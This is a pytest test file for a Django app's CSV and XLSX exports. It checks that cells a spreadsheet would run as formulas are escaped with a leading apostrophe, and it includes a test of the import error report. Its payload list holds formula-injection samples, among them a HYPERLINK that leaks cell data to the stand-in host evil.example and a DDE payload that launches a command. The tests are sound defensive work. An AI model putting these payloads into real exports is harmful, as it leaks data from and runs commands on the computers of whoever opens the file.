"""EXP-01: CSV and XLSX exports neutralise formulas. A text cell that a spreadsheet would run
(starting with `= + - @`, a tab, a CR or a NUL) is written with a leading `'`, in the header and
in every row, and reads back as plain text with `csv` and openpyxl; quoting follows RFC 4180
(a cell with `;`, a quote or a line break round-trips intact)."""
import csv
import io

import pytest
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from accounts.models import User
from core import exports
from core.imports import RowError, error_report_csv
from core.models import ExportJob
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

KIND = "tests.injection"
PAYLOADS = [
    "=1+2", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Подробнее\")", "+7(913)555-00-00", "-2+3", "@SUM(A1:A9)",
    "\t=1+2", "\r=1+2", "\0=1+2", "=cmd|' /C calc'!A0", "-", "+", "@",
]
# Quoting only: not formulas, must round-trip exactly.
PLAIN = ["Иванов; Пётр", 'ООО "Ромашка"', "две\nстроки", "a'b", " =1 (a leading space is not run)"]


def escaped(payload: str) -> str:
    return "'" + payload


@pytest.fixture
def injection_export(monkeypatch):
    """One row per payload (the values come from the accessor, not the database: PostgreSQL
    refuses a NUL in text, and the export must be safe whatever a column yields)."""
    monkeypatch.setattr(exports, "_registry", {})
    monkeypatch.setattr(exports, "_discovered", True)
    values = {f"u{i}@inj.test": value for i, value in enumerate(PAYLOADS + PLAIN)}
    for email in values:
        UserFactory(email=email)
    return exports.register_export(
        KIND, title="=Выгрузка", columns=[("E-mail", "email"), ("=Значение", lambda user: values[user.email])],
        queryset=lambda user, params: User.objects.filter(email__endswith="@inj.test").order_by("pk"))


def build(fmt: str) -> bytes:
    owner = UserFactory(email="owner@example.org")
    job = exports.export_start(user=owner, kind=KIND, params={}, format=fmt)
    exports.export_build(job_id=job.pk)
    job = ExportJob.objects.get(pk=job.pk)
    assert job.status == ExportJob.Status.READY, job.error
    with default_storage.open(job.file.name, "rb") as fh:
        return fh.read()


def test_csv_prefixes_every_formula_payload_and_keeps_plain_text(injection_export):
    rows = list(csv.reader(io.StringIO(build("csv").decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["E-mail", "'=Значение"]
    cells = [row[1] for row in rows[1:]]
    assert cells == [escaped(p) for p in PAYLOADS] + PLAIN
    assert all(not cell.startswith(exports.FORMULA_PREFIXES) for cell in cells)


def test_xlsx_stores_every_formula_payload_as_text(injection_export):
    sheet = load_workbook(io.BytesIO(build("xlsx"))).active
    assert sheet["B1"].value == "'=Значение"
    cells = list(sheet.iter_rows(min_row=2, min_col=2, max_col=2))
    assert all(cell.data_type == "s" for (cell,) in cells), "a cell was written as a formula"
    # openpyxl drops the control characters XML cannot hold (the NUL) after the prefix was added,
    # and XML reads a CR back as a line feed.
    expected = [escaped(p.replace("\0", "").replace("\r", "\n")) for p in PAYLOADS] + PLAIN
    assert [cell.value for (cell,) in cells] == expected
    assert all(str(cell.value).startswith("'") for (cell,) in cells[:len(PAYLOADS)])


def test_xlsx_a_control_character_before_a_formula_does_not_unmask_it(monkeypatch):
    monkeypatch.setattr(exports, "_registry", {})
    monkeypatch.setattr(exports, "_discovered", True)
    UserFactory(email="x@inj.test")
    exports.register_export(KIND, title="Выгрузка", columns=[("Значение", lambda user: "\x01=1+2")],
                            queryset=lambda user, params: User.objects.filter(email="x@inj.test"))
    cell = load_workbook(io.BytesIO(build("xlsx"))).active["A2"]
    assert cell.data_type == "s"
    assert not str(cell.value).startswith("=")


def test_the_import_error_report_escapes_formulas_in_reasons_and_columns():
    report = error_report_csv([RowError(2, "=col", "=HYPERLINK(\"http://evil\")"), RowError(3, "name", "@x"),
                               RowError(4, "name", "обычная причина")])
    rows = list(csv.reader(io.StringIO(report.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1:] == [["2", "'=col", "'=HYPERLINK(\"http://evil\")"], ["3", "name", "'@x"],
                        ["4", "name", "обычная причина"]]
